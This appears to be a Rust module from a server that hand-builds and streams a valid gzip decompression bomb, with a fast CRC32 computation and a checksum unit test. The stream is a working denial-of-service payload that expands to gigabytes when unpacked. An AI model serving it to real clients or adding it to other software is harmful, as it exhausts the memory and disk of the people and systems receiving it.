//! A gzip bomb: small until it is unpacked.
//!
//! Written by hand, so that a gigabyte costs neither time nor memory here: text in stored blocks,
//! and between them one block of repetitions. With deflate's fixed codes that takes 13 bits for 258
//! bytes, so eight repetitions fill exactly 13 bytes.

use super::body::Pipe;

/// The byte that is repeated.
const FILLER: u8 = b'x';

/// Unpacked size of one round of repetitions.
const ROUND: u64 = 8 * 258;

/// Number of rounds in one write.
const ROUNDS: u64 = 4096;

/// Writes `head`, at least `count` fillers and `tail`, compressed.
pub(super) async fn pour(pipe: &Pipe, head: &str, count: u64, tail: &str) {
    let rounds = count.div_ceil(ROUND);
    pipe.send([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255].to_vec())
        .await;
    pipe.send(stored(head, false)).await;
    // A block with fixed codes that begins with one filler: three bits, then the eight of its code.
    let mut bits = Bits::default();
    bits.put(0b010, 3);
    bits.put_code(0x30 + u32::from(FILLER), 8);
    let mut left = rounds;
    // Starts after eleven bits; each round of 104 bits ends at the same position within a byte.
    while left > 0 {
        for _ in 0..left.min(ROUNDS) {
            for _ in 0..8 {
                // 258 bytes, from one byte back.
                bits.put_code(0b1100_0101, 8);
                bits.put_code(0, 5);
            }
        }
        left = left.saturating_sub(ROUNDS);
        pipe.send(std::mem::take(&mut bits.bytes)).await;
    }
    // End the block, then add an empty stored one to return to a byte boundary.
    bits.put_code(0, 7);
    bits.put(0, 3);
    bits.align();
    bits.bytes.extend_from_slice(&[0, 0, 0xff, 0xff]);
    pipe.send(std::mem::take(&mut bits.bytes)).await;
    pipe.send(stored(tail, true)).await;
    let middle = rounds.saturating_mul(ROUND).saturating_add(1);
    let state = text(!0, head.as_bytes());
    let state = !text(fill(state, middle), tail.as_bytes());
    let length = head.len() as u64 + middle + tail.len() as u64;
    let mut end = state.to_le_bytes().to_vec();
    // The length modulo 2^32.
    end.extend(length.to_le_bytes().into_iter().take(4));
    pipe.send(end).await;
}

/// A stored block; the text must be short enough for one.
fn stored(text: &str, last: bool) -> Vec<u8> {
    let length = u16::try_from(text.len()).unwrap_or(u16::MAX);
    let mut block = vec![u8::from(last)];
    block.extend(length.to_le_bytes());
    block.extend((!length).to_le_bytes());
    block.extend(text.bytes().take(usize::from(length)));
    block
}

/// Bits in the order of deflate: the lowest of a byte first.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    partial: u32,
    count: u32,
}

impl Bits {
    fn put(&mut self, value: u32, bits: u32) {
        self.partial |= value << self.count;
        self.count += bits;
        while self.count >= 8 {
            self.bytes.push(self.partial.to_le_bytes()[0]);
            self.partial >>= 8;
            self.count -= 8;
        }
    }

    /// Huffman codes are written with their highest bit first.
    fn put_code(&mut self, code: u32, bits: u32) {
        self.put(code.reverse_bits() >> (32 - bits), bits);
    }

    fn align(&mut self) {
        if self.count > 0 {
            self.put(0, 8 - self.count);
        }
    }
}

/// The CRC after one more byte.
fn step(state: u32, byte: u8) -> u32 {
    let mut state = state ^ u32::from(byte);
    for _ in 0..8 {
        state = state >> 1 ^ (if state & 1 == 1 { 0xedb8_8320 } else { 0 });
    }
    state
}

fn text(state: u32, bytes: &[u8]) -> u32 {
    bytes.iter().fold(state, |state, byte| step(state, *byte))
}

/// The CRC after many fillers. A step is affine, so steps compose: repeated squaring reaches any
/// number quickly.
fn fill(state: u32, count: u64) -> u32 {
    let constant = step(0, FILLER);
    let columns = std::array::from_fn(|bit| step(1 << bit, FILLER) ^ constant);
    let mut jump = Jump { columns, constant };
    let (mut state, mut left) = (state, count);
    while left > 0 {
        if left & 1 == 1 {
            state = jump.apply(state);
        }
        jump = jump.twice();
        left >>= 1;
    }
    state
}

struct Jump {
    columns: [u32; 32],
    constant: u32,
}

impl Jump {
    fn linear(&self, state: u32) -> u32 {
        let columns = self.columns.iter().enumerate();
        columns.fold(0, |sum, (bit, column)| {
            if state >> bit & 1 == 1 {
                sum ^ column
            } else {
                sum
            }
        })
    }

    fn apply(&self, state: u32) -> u32 {
        self.linear(state) ^ self.constant
    }

    fn twice(&self) -> Self {
        Self {
            columns: self.columns.map(|column| self.linear(column)),
            constant: self.apply(self.constant),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn check_sums_are_those_of_gzip() {
        assert_eq!(!text(!0, b"123456789"), 0xcbf4_3926);
        let fillers = vec![FILLER; 1000];
        assert_eq!(
            fill(text(!0, b"head"), 1000),
            text(text(!0, b"head"), &fillers)
        );
    }
}
